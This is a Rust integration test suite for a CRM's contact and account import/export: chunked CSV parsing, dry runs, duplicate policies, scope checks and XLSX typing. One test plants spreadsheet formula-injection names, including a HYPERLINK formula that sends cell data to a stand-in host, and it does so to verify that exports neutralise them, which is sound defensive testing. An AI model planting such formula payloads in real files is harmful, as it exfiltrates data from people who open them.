//! Import and export through the gateway in both modes: CSV in chunks and structured rows,
//! dry runs, per-row errors with row numbers, the three duplicate policies, nothing written of
//! a refused row; CSV and XLSX exports of a filtered list with custom fields, within the
//! caller's data scope.

// Helpers panic on purpose: a failed step is a failed test with a clear message.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::support;

use std::collections::HashMap;

use crm_platform::csv::CsvReader;
use crm_proto::common::{
    CustomFieldDefinition, CustomFieldType, DuplicatePolicy, ExportFormat, ImportOptions,
    ImportOutcome, ImportRow, ImportRowResult, ImportRows,
};
use crm_proto::contacts::*;
use support::clients::{Session, expect_invalid};
use support::{Mode, Suite, org};

fn options(resource_type: &str, dry_run: bool, policy: DuplicatePolicy) -> ImportRecordsRequest {
    ImportRecordsRequest {
        part: Some(import_records_request::Part::Options(ImportOptions {
            resource_type: resource_type.into(),
            dry_run,
            duplicate_policy: policy as i32,
            assign_by_rule: false,
        })),
    }
}

fn csv_part(bytes: &[u8]) -> ImportRecordsRequest {
    ImportRecordsRequest {
        part: Some(import_records_request::Part::Csv(bytes.to_vec())),
    }
}

fn rows_part(rows: &[&[(&str, &str)]]) -> ImportRecordsRequest {
    ImportRecordsRequest {
        part: Some(import_records_request::Part::Rows(ImportRows {
            rows: rows
                .iter()
                .map(|cells| ImportRow {
                    values: cells
                        .iter()
                        .map(|(k, v)| (k.to_string(), v.to_string()))
                        .collect(),
                })
                .collect(),
        })),
    }
}

async fn import(
    session: &Session,
    messages: Vec<ImportRecordsRequest>,
) -> Result<ImportRecordsResponse, tonic::Status> {
    Ok(session
        .contacts()
        .import_records(tokio_stream::iter(messages))
        .await?
        .into_inner())
}

/// Imports a CSV file sent in chunks of `chunk` bytes.
async fn import_csv(
    session: &Session,
    text: &str,
    chunk: usize,
    dry_run: bool,
    policy: DuplicatePolicy,
) -> ImportRecordsResponse {
    let mut messages = vec![options("contact", dry_run, policy)];
    messages.extend(text.as_bytes().chunks(chunk).map(csv_part));
    import(session, messages).await.unwrap()
}

async fn export(
    session: &Session,
    resource_type: &str,
    filter: &str,
    format: ExportFormat,
) -> Result<Vec<u8>, tonic::Status> {
    let mut stream = session
        .contacts()
        .export_records(ExportRecordsRequest {
            resource_type: resource_type.into(),
            filter: filter.into(),
            format: format as i32,
        })
        .await?
        .into_inner();
    let mut file = Vec::new();
    while let Some(part) = stream.message().await? {
        file.extend(part.chunk);
    }
    Ok(file)
}

fn parse_csv(bytes: &[u8]) -> Vec<HashMap<String, String>> {
    let mut reader = CsvReader::new();
    let mut records: Vec<Vec<String>> =
        reader.push(bytes).into_iter().map(Result::unwrap).collect();
    records.extend(reader.finish().into_iter().map(Result::unwrap));
    let header = records.remove(0);
    records
        .into_iter()
        .map(|cells| header.iter().cloned().zip(cells).collect())
        .collect()
}

fn result_for(response: &ImportRecordsResponse, row: i64) -> &ImportRowResult {
    response
        .results
        .iter()
        .find(|r| r.row == row)
        .unwrap_or_else(|| panic!("no result for row {row}: {response:?}"))
}

const FIRST_FILE: &str = "\u{FEFF}Display_Name,phone,email,tags,gender,birthday,custom.segment\r\n\
王小明,13800138000,wang@example.com,vip;local,male,1990-05-01,Retail\r\n\
\"Li, Na\",+86 139 0000 0001,li.na@example.com,,female,,wholesale\r\n\
Bad Phone,12345,,,,,\r\n\
,,,vip,,,\r\n\
Bad Segment,13700000000,,,,,Online\r\n\
Dup Wang,138-0013-8000,,,,,\r\n\
Too Many,1,2,3,4,5,6,7,8\r\n\
Bad Gender,,,,robot,,";

async fn import_and_export(mode: Mode) {
    let suite = Suite::start(mode).await;
    let admin = suite.admin().await;
    let o = org::build(&suite, admin.clone(), "transfer").await;
    admin
        .contacts()
        .create_custom_field(CreateCustomFieldRequest {
            custom_field: Some(CustomFieldDefinition {
                resource_type: "contact".into(),
                name: "segment".into(),
                display_name: "Segment".into(),
                r#type: CustomFieldType::SingleChoice as i32,
                options: vec!["Retail".into(), "Wholesale".into()],
                ..Default::default()
            }),
            request_id: String::new(),
        })
        .await
        .unwrap();

    // A CSV in small chunks (split inside rows and characters): good rows are created, each
    // refused row is reported by number and column, and nothing of it is written.
    let first = import_csv(&o.rep1, FIRST_FILE, 7, false, DuplicatePolicy::Skip).await;
    assert_eq!(
        (
            first.rows,
            first.created,
            first.skipped,
            first.failed,
            first.updated
        ),
        (8, 2, 1, 5, 0),
        "{first:?}"
    );
    assert_eq!(
        o.rep1.contact_names("").await.unwrap(),
        ["Li, Na", "王小明"]
    );
    // Errors name the file's column, as the spreadsheet user wrote it, and the record field.
    let column = |row: i64| result_for(&first, row).errors[0].column.clone();
    let field = |row: i64| result_for(&first, row).errors[0].field.clone();
    assert_eq!(column(3), "phones");
    assert!(field(3).starts_with("contact.phones["), "{}", field(3));
    assert_eq!(
        (column(4), field(4)),
        ("display_name".into(), "contact.display_name".into())
    );
    assert_eq!(
        (column(5), field(5)),
        (
            "custom.segment".into(),
            "contact.custom_fields[segment]".into()
        )
    );
    assert!(
        result_for(&first, 7).errors[0]
            .description
            .contains("cells")
    );
    assert_eq!(column(8), "gender");
    let wang = o
        .rep1
        .contacts()
        .list_contacts(ListContactsRequest {
            filter: r#"display_name = "王小明""#.into(),
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner()
        .contacts
        .remove(0);
    let skipped = result_for(&first, 6);
    assert_eq!(skipped.outcome, ImportOutcome::Skipped as i32);
    assert_eq!(skipped.id, wang.id, "the duplicate is named");
    assert_eq!(wang.tags, ["vip", "local"]);
    assert_eq!(wang.custom_fields["segment"], "Retail");
    assert_eq!(wang.phone, "+8613800138000");

    // A dry run checks everything and writes nothing, anywhere in the database.
    let footprint = suite.contacts_footprint().await;
    let dry = import_csv(
        &o.rep1,
        "display_name,email\nZhao Lei,zhao@example.com\nQian Yu,not-an-email\n",
        1024,
        true,
        DuplicatePolicy::Skip,
    )
    .await;
    assert!(dry.dry_run);
    assert_eq!((dry.created, dry.failed), (1, 1));
    assert_eq!(suite.contacts_footprint().await, footprint);
    assert_eq!(result_for(&dry, 2).errors[0].column, "emails");
    assert_eq!(
        result_for(&dry, 2).errors[0].field,
        "contact.emails[0].value"
    );
    assert_eq!(o.rep1.contact_names("").await.unwrap().len(), 2);

    // Update changes the duplicate with the row's columns; create makes a second record.
    let updated = import_csv(
        &o.rep1,
        "display_name,phone,title\n王小明,+86 138 0013 8000,经理\n",
        1024,
        false,
        DuplicatePolicy::Update,
    )
    .await;
    assert_eq!(updated.updated, 1, "{updated:?}");
    let refreshed = o.rep1.get_contact(&wang.id).await;
    assert_eq!(refreshed.title, "经理");
    assert_eq!(
        refreshed.tags,
        ["vip", "local"],
        "columns not given are kept"
    );
    let twin = import_csv(
        &o.rep1,
        "display_name,phone\nWang Twin,13800138000\n",
        1024,
        false,
        DuplicatePolicy::Create,
    )
    .await;
    assert_eq!(twin.created, 1);

    // Structured rows, numbered the same way; an owner outside the scope is refused.
    let structured = import(
        &o.rep2,
        vec![
            options("contact", false, DuplicatePolicy::Skip),
            rows_part(&[
                &[("display_name", "Sun Li"), ("email", "sun@example.com")],
                &[("display_name", "Stolen"), ("owner_id", &o.rep1.user_id)],
            ]),
        ],
    )
    .await
    .unwrap();
    assert_eq!((structured.created, structured.failed), (1, 1));
    assert_eq!(result_for(&structured, 2).errors[0].column, "owner_id");

    // Malformed streams are refused whole.
    expect_invalid(
        import(&o.rep1, vec![csv_part(b"display_name\nX\n")]).await,
        "options",
    );
    expect_invalid(
        import(
            &o.rep1,
            vec![
                options("contact", false, DuplicatePolicy::Unspecified),
                csv_part(b"display_name\nX\n"),
            ],
        )
        .await,
        "options.duplicate_policy",
    );
    expect_invalid(
        import(
            &o.rep1,
            vec![
                options("contact", false, DuplicatePolicy::Skip),
                csv_part(b"display_name\nX\n"),
                rows_part(&[&[("display_name", "Y")]]),
            ],
        )
        .await,
        "rows",
    );

    // Accounts import the same way, company names deciding duplicates.
    let accounts = import(
        &o.rep1,
        vec![
            options("account", false, DuplicatePolicy::Skip),
            csv_part("display_name,tier,industry\n深圳华强电子有限公司,key,electronics\n深圳华强电子有限公司,,\n".as_bytes()),
        ],
    )
    .await
    .unwrap();
    assert_eq!((accounts.created, accounts.skipped), (1, 1), "{accounts:?}");

    // CSV export of a filtered list, with the custom field's column, in the caller's scope.
    let file = export(&o.rep1, "contact", r#"tags = "vip""#, ExportFormat::Csv)
        .await
        .unwrap();
    assert!(file.starts_with(b"\xEF\xBB\xBF"));
    let rows = parse_csv(&file);
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0]["display_name"], "王小明");
    assert_eq!(rows[0]["phones"], "+8613800138000");
    assert_eq!(rows[0]["custom.segment"], "Retail");
    assert_eq!(rows[0]["tags"], "vip;local");
    let everything = parse_csv(
        &export(&o.rep1, "contact", "", ExportFormat::Csv)
            .await
            .unwrap(),
    );
    assert_eq!(everything.len(), 3, "rep1's own contacts only");
    let team = parse_csv(
        &export(&o.manager, "contact", "", ExportFormat::Csv)
            .await
            .unwrap(),
    );
    assert_eq!(team.len(), 4, "the manager's team");
    let platform = suite.admin().await;
    let stranger = org::other_tenant(&suite, &platform, "transfer-other").await;
    assert!(
        parse_csv(
            &export(&stranger, "contact", "", ExportFormat::Csv)
                .await
                .unwrap()
        )
        .is_empty()
    );

    // The exported file imports again: a round trip through the same columns.
    let exported = export(&o.rep1, "contact", r#"tags = "vip""#, ExportFormat::Csv)
        .await
        .unwrap();
    let edited = String::from_utf8(exported)
        .unwrap()
        .replace("王小明", "王小明二");
    let round_trip = import_csv(&o.rep1, &edited, 1024, false, DuplicatePolicy::Update).await;
    assert_eq!(round_trip.updated, 1, "{round_trip:?}");

    // XLSX export: a workbook holding the same cells.
    let workbook = export(&o.rep1, "account", "", ExportFormat::Xlsx)
        .await
        .unwrap();
    assert_eq!(&workbook[..4], b"PK\x03\x04");
    let seen = read_workbook(&workbook);
    assert!(
        seen.lines()
            .any(|l| l == "display_name=str:深圳华强电子有限公司"),
        "{seen}"
    );
    assert!(seen.lines().any(|l| l == "tier=str:key"), "{seen}");

    // Bad exports are refused before any byte is sent.
    expect_invalid(
        export(&o.rep1, "contact", "shoe_size = 4", ExportFormat::Csv).await,
        "filter",
    );
    expect_invalid(
        export(&o.rep1, "lead", "", ExportFormat::Csv).await,
        "resource_type",
    );

    // Two imports of the same new customers at once: each customer is created once, and
    // the other import reports it as a duplicate.
    let mut same = String::from("display_name,phone\n");
    for n in 0..20 {
        same.push_str(&format!("Racer {n},+86 186 0000 {n:04}\n"));
    }
    let (a, b) = tokio::join!(
        import_csv(&o.rep1, &same, 100, false, DuplicatePolicy::Skip),
        import_csv(&o.manager, &same, 100, false, DuplicatePolicy::Skip)
    );
    assert_eq!((a.created + b.created, a.skipped + b.skipped), (20, 20));
    assert_eq!(
        o.manager
            .contact_names(r#"display_name : "Racer""#)
            .await
            .unwrap()
            .len(),
        20
    );
}

/// A name a spreadsheet would run as a formula (CWE-1236) is exported as text, and the file
/// imports back to the same names.
async fn exports_neutralise_formulas(mode: Mode) {
    let suite = Suite::start(mode).await;
    let admin = suite.admin().await;
    let hostile = [
        r#"=HYPERLINK("http://evil.example/?x="&A2,"open")"#,
        "+SUM(1,2)",
        "-2+3",
        "@cmd",
        "＝1+1",
    ];
    for name in hostile {
        admin.create_contact(name).await;
    }
    let file = export(&admin, "contact", "", ExportFormat::Csv)
        .await
        .unwrap();
    let text = String::from_utf8(file.clone()).unwrap();
    for line in text.lines().skip(1) {
        let first = line.trim_start_matches('"');
        assert!(
            !first.starts_with(['=', '+', '-', '@', '＝']),
            "a live formula: {line}"
        );
    }
    // Another tenant imports the file: the names arrive as they were written.
    let platform = suite.admin().await;
    let other = org::other_tenant(&suite, &platform, "formulas").await;
    let imported = import_csv(&other, &text, 1 << 16, false, DuplicatePolicy::Create).await;
    assert_eq!(imported.created, hostile.len() as i64, "{imported:?}");
    let mut names = other.contact_names("").await.unwrap();
    let mut expected: Vec<String> = hostile.iter().map(|n| n.to_string()).collect();
    names.sort();
    expected.sort();
    assert_eq!(names, expected);
}

/// Thousands of tiny rows in one message are imported in bounded batches.
async fn one_large_message_imports_in_batches(mode: Mode) {
    let suite = Suite::start(mode).await;
    let admin = suite.admin().await;
    let mut text = String::from("display_name\r\n");
    for i in 0..3_000 {
        text.push_str(&format!("Row {i}\r\n"));
    }
    let imported = import_csv(&admin, &text, text.len(), false, DuplicatePolicy::Create).await;
    assert_eq!((imported.rows, imported.created), (3_000, 3_000));
}

/// An import row that duplicates a customer outside the importer's reach is skipped without
/// that customer's id, under every duplicate policy, and the customer is left alone.
async fn imports_never_name_hidden_duplicates(mode: Mode) {
    let suite = Suite::start(mode).await;
    let admin = suite.admin().await;
    let o = org::build(&suite, admin, "import-hidden").await;
    let theirs = o
        .rep1
        .contacts()
        .create_contact(CreateContactRequest {
            contact: Some(Contact {
                display_name: "Rep one's customer".into(),
                phone: "13800138000".into(),
                ..Default::default()
            }),
            allow_duplicates: false,
            request_id: String::new(),
        })
        .await
        .unwrap()
        .into_inner()
        .contact
        .unwrap();
    let file = "display_name,phone,title\r\nTaken over,138 0013 8000,Boss\r\n";
    for policy in [DuplicatePolicy::Skip, DuplicatePolicy::Update] {
        let imported = import_csv(&o.rep2, file, 1 << 16, false, policy).await;
        assert_eq!((imported.skipped, imported.updated), (1, 0), "{policy:?}");
        assert_eq!(result_for(&imported, 1).id, "", "{policy:?}");
    }
    // The same file from the owner's side names the record.
    let own = import_csv(&o.rep1, file, 1 << 16, true, DuplicatePolicy::Skip).await;
    assert_eq!(result_for(&own, 1).id, theirs.id);
    let still = o.rep1.get_contact(&theirs.id).await;
    assert_eq!(still.etag, theirs.etag);
}

/// Reads a workbook with openpyxl, as a spreadsheet user's tools would, and returns what it
/// found as `key=value` lines.
fn read_workbook(file: &[u8]) -> String {
    let python =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("target/tools/venv/bin/python");
    assert!(
        python.exists(),
        "openpyxl lives in target/tools/venv: run scripts/test once"
    );
    let path = support::process::scratch_dir("workbook").join("export.xlsx");
    std::fs::write(&path, file).unwrap();
    let script = r#"
import sys, openpyxl
ws = openpyxl.load_workbook(sys.argv[1]).active
print(f"title={ws.title}")
print(f"freeze={ws.freeze_panes}")
print(f"filter={ws.auto_filter.ref}")
print(f"bold={all(c.font.b for c in ws[1])}")
header = [c.value for c in ws[1]]
for row in ws.iter_rows(min_row=2):
    for name, cell in zip(header, row):
        if cell.value is not None:
            print(f"{name}={type(cell.value).__name__}:{cell.value}")
"#;
    let out = std::process::Command::new(python)
        .args(["-c", script, path.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

/// A workbook a sales manager can work with: numbers and dates typed, phones kept as text, a
/// bold frozen header with an autofilter.
async fn workbooks_type_their_cells(mode: Mode) {
    let suite = Suite::start(mode).await;
    let admin = suite.admin().await;
    for (name, kind) in [
        ("annual_spend", CustomFieldType::Decimal),
        ("first_order", CustomFieldType::Date),
        ("vip", CustomFieldType::Boolean),
    ] {
        admin
            .contacts()
            .create_custom_field(CreateCustomFieldRequest {
                custom_field: Some(CustomFieldDefinition {
                    resource_type: "contact".into(),
                    name: name.into(),
                    display_name: name.into(),
                    r#type: kind as i32,
                    ..Default::default()
                }),
                request_id: String::new(),
            })
            .await
            .unwrap();
    }
    admin
        .contacts()
        .create_contact(CreateContactRequest {
            contact: Some(Contact {
                display_name: "王小明".into(),
                phone: "13800138000".into(),
                birthday: Some(crm_proto::common::Date {
                    year: 1990,
                    month: 5,
                    day: 1,
                }),
                custom_fields: [
                    ("annual_spend", "12500.75"),
                    ("first_order", "2024-03-18"),
                    ("vip", "true"),
                ]
                .into_iter()
                .map(|(k, v)| (k.to_owned(), v.to_owned()))
                .collect(),
                ..Default::default()
            }),
            allow_duplicates: false,
            request_id: String::new(),
        })
        .await
        .unwrap();
    let workbook = export(&admin, "contact", "", ExportFormat::Xlsx)
        .await
        .unwrap();
    let seen = read_workbook(&workbook);
    for expected in [
        "title=contact",
        "freeze=A2",
        "bold=True",
        "display_name=str:王小明",
        "phones=str:+8613800138000",
        "birthday=datetime:1990-05-01 00:00:00",
        "custom.annual_spend=float:12500.75",
        "custom.first_order=datetime:2024-03-18 00:00:00",
        "custom.vip=bool:True",
    ] {
        assert!(seen.lines().any(|l| l == expected), "{expected} in\n{seen}");
    }
    assert!(seen.lines().any(|l| l.starts_with("filter=A1:")), "{seen}");
}

both_modes!(
    workbooks_type_their_cells,
    import_and_export,
    imports_never_name_hidden_duplicates,
    exports_neutralise_formulas,
    one_large_message_imports_in_batches
);
